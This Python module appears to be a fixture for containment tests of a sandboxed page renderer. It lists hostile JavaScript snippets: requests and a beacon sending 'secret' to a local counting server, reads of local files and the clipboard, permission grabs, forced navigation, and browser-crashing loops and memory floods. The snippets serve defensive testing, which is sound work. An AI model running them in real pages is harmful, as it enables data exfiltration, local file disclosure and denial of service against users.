"""Hostile pages by what they are after: name -> script. `PORT` is a server of this machine that counts who knocks.

The tests of `test_containment.py` render those of the network and of the page's own ground;
`tests/benchmarks/hostile_pages.py` renders all and writes a table.
"""

from __future__ import annotations

NETWORK = {
    "fetch": "fetch('http://127.0.0.1:PORT/').then(r => r.text()).then(t => document.body.append(t))",
    "fetch over TLS": "fetch('https://127.0.0.1:PORT/')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'http://localhost:PORT/'); x.send()",
    "WebSocket": "new WebSocket('ws://127.0.0.1:PORT/')",
    "EventSource": "new EventSource('http://127.0.0.1:PORT/')",
    "beacon": "navigator.sendBeacon('http://127.0.0.1:PORT/', 'secret')",
    "image": "const i = new Image(); i.src = 'http://127.0.0.1:PORT/a.png'; document.body.append(i)",
    "frame": "const i = document.createElement('iframe'); i.src = 'http://127.0.0.1:PORT/'; document.body.append(i)",
    "script": (
        "const s = document.createElement('script'); s.src = 'http://127.0.0.1:PORT/a.js'; document.body.append(s)"
    ),
    "name server": "fetch('http://example.com/')",
    "style sheet": "document.body.innerHTML = '<style>@import url(http://127.0.0.1:PORT/a.css)</style>'",
    "form": "document.body.innerHTML = '<form action=http://127.0.0.1:PORT/></form>'; document.forms[0].submit()",
    "image in a written frame": (
        "document.body.innerHTML = '<iframe srcdoc=\"<img src=http://127.0.0.1:PORT/>\"></iframe>'"
    ),
    "ping of a link": (
        "document.body.innerHTML = '<a ping=http://127.0.0.1:PORT/ href=#>x</a>'; document.links[0].click()"
    ),
    "object": "document.body.innerHTML = '<object data=http://127.0.0.1:PORT/></object>'",
    "fetch of a file": "fetch('file:///etc/hostname').then(r => r.text()).then(t => document.body.append(t))",
    "frame of a file": (
        "const i = document.createElement('iframe'); i.src = 'file:///etc/hostname'; document.body.append(i)"
    ),
}
"""Each is refused by policy or proxy, which is counted."""

GROUND = {
    "closes its window": "window.close()",
    "removes its document": "document.documentElement.remove()",
    "writes itself anew": "document.write('<p>over</p>'); document.close()",
    "replaces JSON, Map and Promise": (
        "JSON.stringify = () => '{\"network\": 1e999}'; Map.prototype.delete = null; Promise = null"
    ),
    "names inputs like properties": (
        "document.body.innerHTML = '<form><input name=placeholder><input name=innerText><input name=value></form>'"
    ),
    "names images like the document's methods": (
        "document.body.innerHTML = '<img name=body><img name=querySelectorAll><img name=documentElement>'"
    ),
    "makes every object throw": "Object.defineProperty(Object.prototype, 'then', {get() { throw 1; }})",
    "takes its clocks away": (
        "window.setTimeout = window.requestAnimationFrame = null; Date.now = null; performance.now = null"
    ),
    "opens its document": "document.open(); document.body",
    "raises": "throw new Error('x')",
}
"""Each hurts the page alone."""

QUIET = {
    "video": "document.body.innerHTML = '<video src=http://127.0.0.1:PORT/a.mp4 autoplay></video>'",
    "audio": "new Audio('http://127.0.0.1:PORT/a.mp3').play().catch(() => 0)",
    "track": "document.body.innerHTML = '<video><track default src=http://127.0.0.1:PORT/a.vtt></video>'",
    "poster": "document.body.innerHTML = '<video poster=http://127.0.0.1:PORT/a.png></video>'",
    "font": "new FontFace('f', 'url(http://127.0.0.1:PORT/f.woff)').load().catch(() => 0)",
    "background": "document.body.style.background = 'url(http://127.0.0.1:PORT/a.png)'",
    "cursor": "document.body.style.cursor = 'url(http://127.0.0.1:PORT/a.cur), auto'",
    "list mark": "document.body.style.listStyleImage = 'url(http://127.0.0.1:PORT/a.png)'",
    "filter of SVG": "document.body.style.filter = 'url(http://127.0.0.1:PORT/a.svg#f)'",
    "image of SVG": (
        "document.body.innerHTML = '<svg><image href=http://127.0.0.1:PORT/a.png width=9 height=9 /></svg>'"
    ),
    "use of SVG": "document.body.innerHTML = '<svg><use href=http://127.0.0.1:PORT/a.svg#x /></svg>'",
    "picture with sources": (
        "document.body.innerHTML = '<picture><source srcset=http://127.0.0.1:PORT/a.webp><img></picture>'"
    ),
    "embed": "document.body.innerHTML = '<embed src=http://127.0.0.1:PORT/>'",
    "input of images": "document.body.innerHTML = '<input type=image src=http://127.0.0.1:PORT/a.png>'",
    "preload": "document.head.innerHTML += '<link rel=preload as=image href=http://127.0.0.1:PORT/a.png>'",
    "prefetch": "document.head.innerHTML += '<link rel=prefetch href=http://127.0.0.1:PORT/>'",
    "prerender": "document.head.innerHTML += '<link rel=prerender href=http://127.0.0.1:PORT/>'",
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href=http://127.0.0.1:PORT/>'",
    "look-up ahead": "document.head.innerHTML += '<link rel=dns-prefetch href=//example.com>'",
    "icon": "document.head.innerHTML += '<link rel=icon href=http://127.0.0.1:PORT/a.ico>'",
    "manifest": "document.head.innerHTML += '<link rel=manifest href=http://127.0.0.1:PORT/a.json>'",
    "module": "import('http://127.0.0.1:PORT/a.mjs').catch(() => 0)",
    "speculation rules": (
        "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
        '\'{"prefetch": [{"source": "list", "urls": ["http://127.0.0.1:PORT/"]}]}\'; document.head.append(s)'
    ),
    "WebTransport": "try { new WebTransport('https://127.0.0.1:PORT/') } catch (e) { 0 }",
    "WebRTC": (
        "try { new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}).createOffer() } catch (e) { 0 }"
    ),
    "fetch that outlives the page": (
        "fetch('http://127.0.0.1:PORT/', {keepalive: true, mode: 'no-cors'}).catch(() => 0)"
    ),
    "other spelling of loopback": (
        "fetch('http://[::1]:PORT/').catch(() => 0); fetch('http://2130706433:PORT/').catch(() => 0)"
    ),
    "address without a scheme": "new Image().src = '//127.0.0.1:PORT/a.png'",
    "report": "new ReportingObserver(() => 0).observe(); fetch('http://0.0.0.0:PORT/').catch(() => 0)",
    "image of a file": "document.body.innerHTML = '<img src=file:///etc/hostname><object data=file:///etc/hostname>'",
    "style sheet of a file": "document.head.innerHTML += '<link rel=stylesheet href=file:///etc/hostname>'",
    "view-source": "document.body.innerHTML = '<iframe src=view-source:file:///etc/hostname></iframe>'",
    "file system": "try { webkitRequestFileSystem(0, 9, () => 0) } catch (e) { 0 }",
    "file dialog": "try { showOpenFilePicker().catch(() => 0) } catch (e) { 0 }",
    "click on a file input": "const i = document.createElement('input'); i.type = 'file'; i.click()",
}
"""Each must reach nobody, whether something is counted or not."""

LEAVING = {
    "goes elsewhere": "location.href = 'http://127.0.0.1:PORT/'",
    "is replaced later": "setTimeout(() => location.replace('http://example.com/'), 300)",
    "goes to a file": "location.href = 'file:///etc/hostname'",
    "goes to data": "location.href = 'data:text/html,<h1>other</h1>'",
    "runs an address": "location.href = 'javascript:document.body.append(1)'",
    "goes to the browser's own pages": "location.href = 'chrome://settings'",
    "opens windows": "for (let i = 0; i < 50; i += 1) window.open('about:blank')",
    "downloads": "const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; a.click()",
    "asks and tells": "alert(1); confirm(2); prompt(3); print()",
    "holds on to its window": "onbeforeunload = () => 'stay'; history.back(); history.forward()",
    "goes full screen": (
        "document.documentElement.requestFullscreen().catch(() => 0); document.body.requestPointerLock()"
    ),
    "asks for rights": (
        "navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission(); "
        "navigator.mediaDevices && navigator.mediaDevices.getUserMedia({audio: true}).catch(() => 0)"
    ),
    "reads the clipboard": "try { navigator.clipboard.readText().catch(() => 0) } catch (e) { 0 }",
}

WASTE = {
    "endless loop": "while (true) {}",
    "endless loop by promises": "(function again() { Promise.resolve().then(again); })()",
    "endless reload": "location.reload()",
    "a gigabyte": "window.keep = new Uint8Array(1 << 30).fill(1)",
    "growing heap": "const keep = []; for (;;) keep.push(new Array(1e5).fill({}).map((_, i) => ({ i })))",
    "5,000 elements": (
        "for (let i = 0; i < 5000; i += 1) document.body.append(Object.assign(document.createElement('p'), "
        "{textContent: i}))"
    ),
    "endless elements": "for (;;) document.body.append(document.createElement('p'))",
    "nesting": (
        "let e = document.body; for (let i = 0; i < 20000; i += 1) { const d = document.createElement('div'); "
        "e.append(d); e = d; }"
    ),
    "expression that backtracks": "/^(a+)+$/.test('a'.repeat(40) + 'b')",
    "large canvas": (
        "const c = document.createElement('canvas'); c.width = c.height = 16384; "
        "c.getContext('2d').fillRect(0, 0, 9, 9); document.body.append(c)"
    ),
    "filters on filters": "document.body.style.filter = 'blur(500px) '.repeat(50)",
    "huge box": "document.body.style.width = document.body.style.height = '1e7px'",
    "storm of timers": "for (let i = 0; i < 20000; i += 1) setInterval(() => 0, 0)",
    "storm of messages": "onmessage = () => postMessage(0, '*'); postMessage(0, '*')",
    "storm of frames": "for (let i = 0; i < 200; i += 1) document.body.append(document.createElement('iframe'))",
    "storm of workers": "for (let i = 0; i < 100; i += 1) { try { new Worker('script.js') } catch (e) { 0 } }",
    "storm of errors": "for (let i = 0; i < 20000; i += 1) console.error('x'.repeat(100))",
    "deep recursion": "(function f() { f(); })()",
    "WebAssembly memory": (
        "try { window.m = new WebAssembly.Memory({initial: 16384}); new Uint8Array(m.buffer).fill(1) } catch (e) { 0 }"
    ),
    "fills its storage": "try { for (let i = 0; ; i += 1) localStorage[i] = 'x'.repeat(1e5) } catch (e) { 0 }",
    "shared memory that waits": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)",
}

ALL = {"network": NETWORK | QUIET, "leaving": LEAVING, "its own ground": GROUND, "waste": WASTE}
